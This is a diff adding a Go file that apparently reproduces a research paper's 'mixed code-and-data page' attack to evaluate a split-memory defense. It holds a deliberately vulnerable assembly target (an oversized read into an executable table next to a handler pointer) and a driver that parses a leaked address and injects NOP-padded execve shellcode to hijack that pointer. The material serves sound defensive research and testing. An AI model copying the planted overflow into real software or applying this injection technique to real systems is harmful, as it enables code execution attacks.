@@ -1,0 +1,96 @@
+package attacks
+
+import (
+	"splitmem"
+)
+
+// The mixed code-and-data page attack (Fig. 1b, §2): real systems put code
+// and data on the same page (Linux signal trampolines, loadable modules,
+// Java VMs, SafeDisc). Such a page must stay executable, so the
+// execute-disable bit cannot protect it: code injected INTO the mixed page
+// executes even under full NX. Split memory protects it by keeping the
+// page's code and data views physically apart.
+
+const mixedPageSrc = `
+_start:
+    ; leak the mixed-page table address
+    mov eax, jit_table
+    push eax
+    mov eax, leakbuf
+    push eax
+    call itoa_hex
+    add esp, 8
+    mov eax, leakpfx
+    push eax
+    call print
+    add esp, 4
+    mov eax, leakbuf
+    push eax
+    call print
+    add esp, 4
+    mov eax, newline
+    push eax
+    call print
+    add esp, 4
+    ; BUG: attacker-controlled length into the mixed page's data area
+    mov eax, 512
+    push eax
+    mov eax, jit_table
+    push eax
+    mov eax, 0
+    push eax
+    call read_exact
+    add esp, 12
+    ; dispatch through the (clobbered) handler slot next to the table
+    mov ecx, jit_handler
+    load eax, [ecx]
+    call eax
+    mov eax, survived
+    push eax
+    call print
+    add esp, 4
+    mov eax, 0
+    push eax
+    call exit
+
+; The mixed page: a JIT-style region holding BOTH code (the default
+; handler) and data (the table + handler slot). It must be rwx, like a Java
+; VM code cache or an unpacked SafeDisc region.
+.section jit 0x08090000 rwx
+jit_default:
+    ret
+.align 64
+jit_table:   .space 64
+jit_handler: .word jit_default
+
+.data
+leakpfx:  .asciz "BUF "
+newline:  .asciz "\n"
+survived: .asciz "SURVIVED\n"
+leakbuf:  .space 12
+`
+
+// RunMixedPage injects shellcode into the writable half of an executable
+// mixed page and hijacks the handler slot next to it.
+func RunMixedPage(cfg splitmem.Config) (Result, error) {
+	t, err := NewTarget(cfg, mixedPageSrc, "mixedpage")
+	if err != nil {
+		return Result{}, err
+	}
+	out, ok := t.WaitOutput("BUF ")
+	if !ok {
+		return Result{Notes: "no leak: " + out}, nil
+	}
+	table, err := parseLeak(out, "BUF ")
+	if err != nil {
+		return Result{}, err
+	}
+	// 64 bytes of shellcode+filler land in the table; the next word is the
+	// handler slot.
+	payload := pad(ExecveShellcode(table), 64, 0x90)
+	payload = append(payload, le32(table)...)
+	t.Send(payload)
+	t.Close()
+	t.Run()
+	return t.Result(), nil
+}
